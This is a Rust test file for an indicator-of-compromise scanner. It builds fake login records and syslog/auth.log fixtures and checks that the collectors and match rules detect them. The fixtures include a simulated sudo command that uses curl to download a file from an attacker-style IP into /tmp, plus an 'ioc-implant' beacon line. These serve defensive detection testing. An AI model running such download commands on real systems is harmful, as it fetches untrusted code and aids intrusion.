//! LoginHistoryItem from crafted wtmp/btmp files; SudoLogItem, Syslog and
//! Log from crafted syslog files.

use crate::collect_util::{matches, observe, FakeRoot};
use ioc_scan::collect::login::{encode_utmp, LoginCollector, UtmpRecord, BOOT_TIME, DEAD_PROCESS, LOGIN_PROCESS, USER_PROCESS};
use ioc_scan::collect::logs::{SudoLogCollector, SyslogCollector};

fn rec(ut_type: i16, pid: i32, line: &str, user: &str, host: &str, time: i64, addr: Option<&str>) -> Vec<u8> {
    encode_utmp(&UtmpRecord {
        ut_type,
        pid,
        line: line.into(),
        user: user.into(),
        host: host.into(),
        time,
        addr: addr.map(|a| a.parse().unwrap()),
    })
    .to_vec()
}

fn login_root() -> FakeRoot {
    let r = FakeRoot::new();
    let mut wtmp = Vec::new();
    wtmp.extend(rec(BOOT_TIME, 0, "~", "reboot", "6.1.0-test", 1_700_000_000, None));
    wtmp.extend(rec(
        USER_PROCESS,
        4321,
        "pts/7",
        "ioc_eve",
        "203.0.113.77",
        1_700_000_100,
        Some("203.0.113.77"),
    ));
    wtmp.extend(rec(USER_PROCESS, 4400, "tty1", "root", "", 1_700_000_150, None));
    wtmp.extend(rec(DEAD_PROCESS, 4321, "pts/7", "", "", 1_700_003_700, None));
    let btmp = rec(
        LOGIN_PROCESS,
        5000,
        "ssh:notty",
        "admin",
        "198.51.100.4",
        1_700_000_050,
        Some("198.51.100.4"),
    );
    r.write("/var/log/wtmp", wtmp).write("/var/log/btmp", btmp);
    r
}

#[test]
fn wtmp_logins_with_their_end_and_btmp_failures() {
    let r = login_root();
    let (obs, stats) = observe(&LoginCollector, &r.root());
    assert_eq!(stats.error_count(), 0, "{:?}", stats.errors);
    assert_eq!(obs.len(), 4, "boot, two logins, one failure");
    let eve = obs.iter().find(|o| o.get("LoginHistoryItem/Username") == ["ioc_eve"]).unwrap();
    assert_eq!(eve.one("LoginHistoryItem/Terminal"), "pts/7");
    assert_eq!(eve.one("LoginHistoryItem/PID"), "4321");
    assert_eq!(eve.one("LoginHistoryItem/IPv4Address"), "203.0.113.77");
    assert_eq!(eve.one("LoginHistoryItem/StartTime"), "1700000100");
    assert_eq!(eve.one("LoginHistoryItem/EndTime"), "1700003700");
    assert_eq!(eve.one("LoginHistoryItem/SessionLength"), "3600");
    assert_eq!(eve.one("LoginHistoryItem/IsRemoteLogin"), "true");
    assert_eq!(eve.one("LoginHistoryItem/IsFailedLogin"), "false");
    assert_eq!(eve.one("LoginHistoryItem/RecordType"), "USER_PROCESS");
    let fail = obs.iter().find(|o| o.get("LoginHistoryItem/Username") == ["admin"]).unwrap();
    assert_eq!(fail.one("LoginHistoryItem/IsFailedLogin"), "true");
    assert_eq!(fail.one("LoginHistoryItem/Path"), "/var/log/btmp");
    let hits = matches(
        Box::new(LoginCollector),
        &r.root(),
        &[
            ("LoginHistoryItem/IPv4Address", "is", "IP", "203.0.113.77"),
            ("LoginHistoryItem/Username", "is", "string", "ioc_eve"),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].kind, "login");
    assert_eq!(hits[0].fields["record"], 1);
}

#[test]
fn truncated_wtmp_keeps_whole_records_and_reports_the_rest() {
    let r = FakeRoot::new();
    let mut wtmp = rec(USER_PROCESS, 1, "pts/1", "ioc_trunc", "", 1_700_000_000, None);
    wtmp.extend_from_slice(&[7u8; 100]);
    r.write("/var/log/wtmp", wtmp);
    let (obs, stats) = observe(&LoginCollector, &r.root());
    assert_eq!(obs.len(), 1);
    let msgs: Vec<String> = stats.errors.iter().map(|e| e.to_string()).collect();
    assert!(msgs.iter().any(|m| m.contains("partial record of 100 bytes")), "{msgs:?}");
    assert!(msgs.iter().any(|m| m.contains("btmp")), "missing btmp reported: {msgs:?}");
}

fn log_root() -> FakeRoot {
    let r = FakeRoot::new();
    r.write(
        "/var/log/auth.log",
        "Nov 14 22:10:01 web1 sshd[812]: Accepted publickey for ioc_eve from 203.0.113.77 port 50000 ssh2\n\
         Nov 14 22:11:00 web1 sudo:  ioc_eve : TTY=pts/7 ; PWD=/home/ioc_eve ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.9/x\n\
         Nov 14 22:12:00 web1 sudo: mallory : 3 incorrect password attempts ; TTY=pts/8 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh\n\
         Nov 14 22:13:00 web1 su[900]: (to root) ioc_eve on pts/7\n",
    )
    .write("/var/log/syslog", "2023-11-14T22:14:00.000000+00:00 web1 ioc-implant[31337]: beacon to 203.0.113.9 ok\nnot a syslog line\n");
    r
}

#[test]
fn sudo_and_su_uses_from_auth_log() {
    let r = log_root();
    let (obs, stats) = observe(&SudoLogCollector, &r.root());
    assert_eq!(stats.error_count(), 0, "{:?}", stats.errors);
    assert_eq!(obs.len(), 3);
    let curl = &obs[0];
    assert_eq!(curl.one("SudoLogItem/username"), "ioc_eve");
    assert_eq!(curl.one("SudoLogItem/userExecuteAs"), "root");
    assert_eq!(curl.one("SudoLogItem/tty"), "pts/7");
    assert_eq!(curl.one("SudoLogItem/pwd"), "/home/ioc_eve");
    assert_eq!(curl.one("SudoLogItem/suOrSudo"), "sudo");
    assert_eq!(curl.one("SudoLogItem/success"), "true");
    assert_eq!(curl.one("SudoLogItem/SourceLog"), "/var/log/auth.log");
    assert_eq!(obs[1].one("SudoLogItem/success"), "false");
    assert_eq!(obs[2].one("SudoLogItem/suOrSudo"), "su");
    let hits = matches(
        Box::new(SudoLogCollector),
        &r.root(),
        &[
            ("SudoLogItem/command", "contains", "string", "203.0.113.9"),
            ("SudoLogItem/success", "is", "bool", "true"),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].kind, "sudo_log");
    assert_eq!(hits[0].fields["line"], 2);
}

#[test]
fn syslog_and_log_lines() {
    let r = log_root();
    let (obs, stats) = observe(&SyslogCollector::syslog(), &r.root());
    assert_eq!(stats.error_count(), 0);
    assert_eq!(obs.len(), 5, "4 auth.log lines and 1 syslog line (the malformed one skipped)");
    let implant = obs.iter().find(|o| o.get("Syslog/Sender") == ["ioc-implant"]).unwrap();
    assert_eq!(implant.one("Syslog/PID"), "31337");
    assert_eq!(implant.one("Syslog/Host"), "web1");
    assert_eq!(implant.one("Syslog/LogFile"), "/var/log/syslog");
    assert_eq!(implant.one("Syslog/Message"), "beacon to 203.0.113.9 ok");
    let hits = matches(
        Box::new(SyslogCollector::syslog()),
        &r.root(),
        &[
            ("Syslog/Message", "contains", "string", "beacon"),
            ("Syslog/Sender", "is", "string", "ioc-implant"),
        ],
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].kind, "syslog");
    let log = matches(
        Box::new(SyslogCollector::log()),
        &r.root(),
        &[
            ("Log/process_name", "is", "string", "ioc-implant"),
            ("Log/time", "is", "date", "2023-11-14T22:14:00Z"),
        ],
    );
    assert_eq!(log.len(), 1);
}

#[test]
fn unreadable_log_is_reported() {
    let r = FakeRoot::new();
    // A directory where a log should be: opening works, reading fails.
    std::fs::create_dir_all(r.dir.path().join("var/log/syslog")).unwrap();
    let (obs, stats) = observe(&SyslogCollector::syslog(), &r.root());
    assert!(obs.is_empty());
    assert!(
        stats.errors.iter().any(|e| e.to_string().contains("var/log/syslog")),
        "{:?}",
        stats.errors
    );
}
